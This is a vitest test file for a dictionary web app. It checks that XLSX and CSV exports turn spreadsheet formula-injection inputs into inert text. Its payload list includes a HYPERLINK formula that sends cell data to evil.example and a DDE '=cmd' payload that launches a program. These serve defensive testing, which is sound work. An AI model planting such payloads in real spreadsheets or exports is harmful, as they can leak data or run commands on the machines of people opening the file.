import { afterAll, beforeAll, expect, test } from 'vitest';
import type { DictEntry } from '../../contract/dictionary-entry.ts';
import { buildTestApp, type TestApp } from '../../server/testing/build-test-app.ts';
import { onEitherDatabase } from '../../server/testing/databases.ts';
import { sql } from '../../server/testing/look-inside.ts';
import { csvRecords } from '../support/csv.ts';
import { cellsOf } from '../support/xlsx.ts';

/** What spreadsheet programs take for a formula when it stands in a file as it is. */
const formulas = [
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
];

onEitherDatabase('threat 29: formulas in exports', (database) => {
  let t: TestApp;
  let token: string;
  beforeAll(async () => {
    t = await buildTestApp({ database });
    token = await t.adminToken();
  });
  afterAll(() => t.close());

  const xlsx = async (query = '') => {
    const answer = await t.inject('GET', `/api/v1/dict/data/export?${query}`, { token });
    expect(answer.statusCode).toBe(200);
    return { answer, cells: cellsOf(answer.rawPayload) };
  };

  test('xlsx: every text is a cell of text, whatever it begins with', async () => {
    for (const [i, formula] of formulas.entries())
      await t.call<DictEntry>('POST', '/api/v1/dict/data', {
        token,
        body: { dictType: 'formula', dictLabel: formula, dictValue: `${formula}${i}`, remark: formula },
      });
    const { answer, cells } = await xlsx('dictType=formula');
    expect(answer.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(answer.headers['content-disposition']).toBe('attachment; filename="dictionary-formula.xlsx"');
    const [head = [], ...rows] = cells;
    expect(head.map(({ value }) => value)).toContain('dictLabel');
    const column = (name: string) => head.findIndex(({ value }) => value === name);
    expect(rows).toHaveLength(formulas.length);
    for (const [i, formula] of formulas.entries()) {
      for (const [name, value] of [
        ['dictLabel', formula],
        ['dictValue', `${formula}${i}`],
        ['remark', formula],
      ] as const)
        expect(rows[i]?.[column(name)], name).toEqual({ kind: 'text', value });
      expect(rows[i]?.[column('dictSort')]).toEqual({ kind: 'number', value: String(10 * (i + 1)) });
    }
    expect(cells.flat().filter(({ kind }) => kind === 'formula')).toEqual([]);
  });

  test('xlsx: the filtered rows, all of them, in their order', async () => {
    const { cells } = await xlsx('dictType=license&status=0');
    const entries = await t.call<DictEntry[]>('GET', '/api/v1/dict/databytype/license');
    const labels = cells.slice(1).map((row) => row[2]?.value);
    expect(labels).toEqual(entries.map(({ dictLabel }) => dictLabel));
    expect((await xlsx('dictLabel=HYPERLINK')).cells).toHaveLength(2);
    expect((await xlsx('dictType=nothing')).cells).toHaveLength(1);
    expect((await t.ask('GET', '/api/v1/dict/data/export?sort=dictSort', { token })).code).toBe(400);
  });

  test('xlsx: thousands of rows, written in a thread of its own', async () => {
    const many = 1_500;
    const values = Array.from(
      { length: many },
      (_, i) => `('many${i}', 'many', '=${i}', 'v${i}', ${i}, 0, '0', '', 0, 0)`,
    );
    await sql(
      t,
      `insert into dictionary (dict_code, dict_type, dict_label, dict_value, dict_sort, is_default, status, remark,
       created_at, updated_at) values ${values.join(',')}`,
    );
    const { cells } = await xlsx('dictType=many');
    expect(cells).toHaveLength(many + 1);
    expect(cells.at(-1)?.[2]).toEqual({ kind: 'text', value: `=${many - 1}` });
    expect(cells.flat().filter(({ kind }) => kind === 'formula')).toEqual([]);
  });

  test('CSV: a leading apostrophe keeps names, addresses of browsers and paths text', async () => {
    const headers = { 'user-agent': '=cmd|calc' };
    const ada = await t.user('ada@example.org');
    for (const [i, formula] of formulas.entries()) {
      const { dataset, subsetList } = await t.dataset({ name: formula, version: `${i}` });
      await t.inject('GET', `/api/v1/download/${dataset.id}/${subsetList[0]?.path}`, {
        token: ada.token,
        headers,
      });
    }
    await t.app.settle();
    const { body } = await t.inject('GET', '/api/v1/admin/records/export', { token: await t.adminToken() });
    const rows = csvRecords(body);
    expect(rows.map((row) => row.datasetName).sort()).toEqual(formulas.map((one) => `'${one}`).sort());
    for (const row of rows) {
      expect(row.userAgent).toBe("'=cmd|calc");
      for (const [name, cell] of Object.entries(row)) expect(cell, name).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
